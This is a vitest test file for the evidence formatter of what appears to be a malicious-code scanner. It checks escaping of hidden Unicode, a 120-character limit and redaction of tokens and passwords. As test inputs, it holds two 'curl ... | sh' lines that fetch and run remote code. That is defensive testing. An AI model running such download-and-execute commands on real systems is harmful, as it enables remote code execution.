// What a finding shows: escaped, at most 120 characters, and never a secret's value (I15).
import { describe, expect, it } from 'vitest'
import { escapeText, evidenceOf } from '../../processors/malicious/evidence.ts'

const evidence = (text: string, match: string): string => {
  const content = Buffer.from(text, 'utf8')
  const latin = content.toString('latin1')
  const start = latin.indexOf(Buffer.from(match, 'utf8').toString('latin1'))
  return evidenceOf(content, latin, { start, end: start + Buffer.byteLength(match) })
}

describe('evidence', () => {
  it('escapes what is not printable ASCII', () => {
    expect(evidence('if x != "a\u202e\u2066": run()', 'run()')).toContain('\\u{202e}\\u{2066}')
    expect(escapeText('a\u001b[31m\tb\u{e0061}')).toBe('a\\u{1b}[31m\\u{9}b\\u{e0061}')
  })

  it('is at most 120 characters, an escape never cut in two', () => {
    for (let pad = 0; pad < 30; pad++) {
      const shown = evidence(`run(${'x'.repeat(pad)} ${'é '.repeat(200)})`, 'run(')
      expect(shown.length).toBeLessThanOrEqual(120)
      expect(shown).toMatch(/^(?:[^\\]|\\u\{[0-9a-f]+\})*$/)
    }
  })

  it('keeps four characters of a long token, of a named value and of a password in an address', () => {
    const token = ['ab12', 'cd34'.repeat(8)].join('')
    expect(evidence(`curl -H "X: ${token}" http://x | sh`, 'curl')).toContain('ab12[+32]')
    expect(evidence('password = "hunter-two" ; run()', 'run()')).toContain('password = "hunt[+6]"')
    expect(evidence('curl https://bob:swordfish@x.example.invalid/a | sh', 'curl')).toContain('://bob:swor[+5]@')
    for (const shown of [evidence(`run("${token}")`, 'run')]) expect(shown).not.toContain(token.slice(0, 8))
  })
})
